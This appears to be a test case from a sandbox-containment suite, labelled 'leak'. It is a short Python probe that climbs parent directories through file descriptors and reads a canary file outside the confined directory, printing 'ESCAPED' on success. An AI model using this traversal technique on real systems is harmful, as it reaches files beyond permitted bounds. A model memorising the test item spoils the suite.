# class: leak
# Walks up by descriptors of folders, one at a time, and opens a file outside from the top.
import os
d=os.open(".",os.O_RDONLY|os.O_DIRECTORY)
for _ in range(12): d=os.open("..",os.O_RDONLY|os.O_DIRECTORY,dir_fd=d)
print("ESCAPED" if b"canary" in os.read(os.open(CANARY["file"].lstrip("/"),os.O_RDONLY,dir_fd=d),99) else "no")
